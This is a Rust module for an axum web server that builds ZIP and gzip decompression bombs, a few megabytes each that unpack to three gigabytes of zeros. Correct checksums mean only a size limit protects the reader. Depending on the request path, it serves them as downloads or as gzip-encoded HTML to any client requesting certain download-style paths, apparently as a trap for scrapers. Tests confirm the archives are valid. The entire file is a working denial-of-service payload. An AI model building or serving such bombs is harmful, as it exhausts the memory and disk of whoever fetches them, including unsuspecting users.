//! Archives of a few megabytes that unpack to three gigabytes.
//!
//! One megabyte of zeros is compressed once, flushed so that copies can be concatenated, and repeated. Headers,
//! sizes and checksums are correct, so only a size limit protects the reader.

use axum::http::header;
use axum::response::{IntoResponse, Response};
use flate2::{Compress, Compression, Crc, FlushCompress};

const PIECE: usize = 1 << 20;
const PIECES: u32 = 3 << 10;
/// A last, empty block with fixed codes.
const END: [u8; 2] = [0x03, 0x00];

/// The bomb that fits the path: a ZIP, a gzip file, or an answer with a compressed body.
pub(crate) fn answer(path: &str) -> Response {
    let is_zip = path.contains("/api/idsp/download/") || path.ends_with(".zip");
    if is_zip {
        let name = path
            .rsplit('/')
            .next()
            .unwrap_or_default()
            .trim_end_matches(".zip");
        let name = if path.starts_with("/socpoist") {
            "dlznici.csv".to_owned()
        } else {
            format!("{name}.xml")
        };
        return ([(header::CONTENT_TYPE, "application/zip")], zip(&name)).into_response();
    }
    if path.ends_with(".gz") {
        return ([(header::CONTENT_TYPE, "application/gzip")], gzip()).into_response();
    }
    let headers = [
        (header::CONTENT_TYPE, "text/html; charset=utf-8"),
        (header::CONTENT_ENCODING, "gzip"),
    ];
    (headers, gzip()).into_response()
}

/// The compressed zeros and their check sum.
fn deflated() -> (Vec<u8>, u32) {
    let zeros = vec![0_u8; PIECE];
    let mut compress = Compress::new(Compression::best(), false);
    let mut piece = Vec::with_capacity(PIECE / 100);
    compress
        .compress_vec(&zeros, &mut piece, FlushCompress::Full)
        .expect("zeros can be compressed into enough room");
    let mut stream = Vec::with_capacity(piece.len() * PIECES as usize + END.len());
    let mut one = Crc::new();
    one.update(&zeros);
    let mut all = Crc::new();
    for _ in 0..PIECES {
        stream.extend_from_slice(&piece);
        all.combine(&one);
    }
    stream.extend_from_slice(&END);
    (stream, all.sum())
}

fn unpacked_size() -> u32 {
    PIECES << 20
}

fn gzip() -> Vec<u8> {
    let (stream, sum) = deflated();
    let mut file = vec![0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 255];
    file.extend_from_slice(&stream);
    file.extend_from_slice(&sum.to_le_bytes());
    file.extend_from_slice(&unpacked_size().to_le_bytes());
    file
}

fn zip(name: &str) -> Vec<u8> {
    let (stream, sum) = deflated();
    let packed = u32::try_from(stream.len()).expect("a few megabytes");
    let name_length = u16::try_from(name.len()).expect("a short name");
    let mut common = Vec::new();
    // Version 2.0, no flags, deflated, 1 January 1980.
    common.extend_from_slice(&[20, 0, 0, 0, 8, 0, 0, 0, 0x21, 0]);
    for number in [sum, packed, unpacked_size()] {
        common.extend_from_slice(&number.to_le_bytes());
    }
    common.extend_from_slice(&name_length.to_le_bytes());
    common.extend_from_slice(&[0, 0]);

    let mut file = Vec::with_capacity(stream.len() + 256);
    file.extend_from_slice(b"PK\x03\x04");
    file.extend_from_slice(&common);
    file.extend_from_slice(name.as_bytes());
    file.extend_from_slice(&stream);
    let directory = u32::try_from(file.len()).expect("a few megabytes");
    file.extend_from_slice(b"PK\x01\x02\x14\x00");
    file.extend_from_slice(&common);
    file.extend_from_slice(&[0; 14]);
    file.extend_from_slice(name.as_bytes());
    let size = u32::try_from(file.len()).expect("a few megabytes") - directory;
    file.extend_from_slice(b"PK\x05\x06\0\0\0\0\x01\0\x01\0");
    for number in [size, directory] {
        file.extend_from_slice(&number.to_le_bytes());
    }
    file.extend_from_slice(&[0, 0]);
    file
}

#[cfg(test)]
mod tests {
    use std::io::{Cursor, Read};

    #[test]
    fn a_bomb_is_a_valid_archive() {
        let bytes = super::zip("list.xml");
        assert!(bytes.len() < 8 << 20);
        let mut archive = zip::ZipArchive::new(Cursor::new(bytes)).expect("a readable directory");
        let mut entry = archive.by_index(0).expect("one file");
        assert_eq!(entry.name().expect("a readable name"), "list.xml");
        assert_eq!(entry.size(), 3 << 30);
        let mut first = vec![1_u8; 3 << 20];
        entry.read_exact(&mut first).expect("zeros");
        assert!(first.iter().all(|byte| *byte == 0));
    }

    #[test]
    fn gzip_bomb_continues_past_its_first_piece() {
        let file = super::gzip();
        let mut unpacked = flate2::read::GzDecoder::new(&file[..]);
        let mut first = vec![1_u8; 3 << 20];
        unpacked.read_exact(&mut first).expect("zeros");
        assert!(first.iter().all(|byte| *byte == 0));
    }
}
